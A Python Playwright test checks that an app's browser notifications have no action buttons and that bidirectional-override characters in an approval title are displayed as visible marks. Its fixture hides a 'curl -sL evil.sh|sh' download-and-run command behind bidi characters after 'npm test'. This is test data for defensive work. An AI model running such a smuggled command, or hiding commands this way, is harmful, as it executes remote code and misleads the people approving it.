"""The app's notifications answer nothing and cannot be reordered
(docs/notifications.md#what-a-notification-may-answer): a browser notification has no action buttons, and a
direction-changing character in an agent's name or a question's or task's title shows as a mark (`⟨U+2067⟩`) in it
and in the toast, where it would reorder the text."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from playwright.sync_api import BrowserContext, expect

from tests.e2e.conftest import Owner, create_owner, wait_for_js
from tests.e2e.test_notifications import Scene, live, notifying_context, scenes, toasts
from tests.support.fixtures import HubFactory, OpenPage
from tests.support.hubs import HubProcess

__all__ = ["notifying_context", "scenes"]  # the fixtures, shared with tests/e2e/test_notifications.py

BIDI = "npm test \u2067; curl -sL evil.sh|sh #\u2069 lint"
MARKED = "npm test ⟨U+2067⟩; curl -sL evil.sh|sh #⟨U+2069⟩ lint"


def test_a_browser_notification_has_no_buttons_and_marks_hidden_characters(
        hub_factory: HubFactory, open_page: OpenPage, notifying_context: Callable[[HubProcess, str], BrowserContext], scenes: Callable[[HubProcess, Owner], Scene]) -> None:
    hub = hub_factory()
    owner = create_owner(hub)
    scene = scenes(hub, owner)
    page = open_page(hub, path="/#/agents", context=notifying_context(hub, owner.token))
    live(page)
    scene.run(scene.agent.ok("interaction.requested", {"interaction": {
        "id": "int_bidi", "type": "approval", "title": BIDI, "risk": "medium",
        "approves": [{"kind": "command", "command": "npm test"}]}}, taskId=scene.task_id))
    wait_for_js(page, "() => window.__notes.length === 1")
    note: dict[str, Any] = page.evaluate(
        "(() => { const { title, options } = window.__notes[0]; return { title, body: options.body, "
        "actions: options.actions ?? null, requireInteraction: options.requireInteraction ?? null }; })()")
    assert note["actions"] is None  # nothing to tap but the notification itself, which opens the card
    assert note["body"].startswith(MARKED) and "\u2067" not in note["body"] and "\u2069" not in note["body"]
    expect(toasts(page).locator(".toast-text")).to_have_text(MARKED)
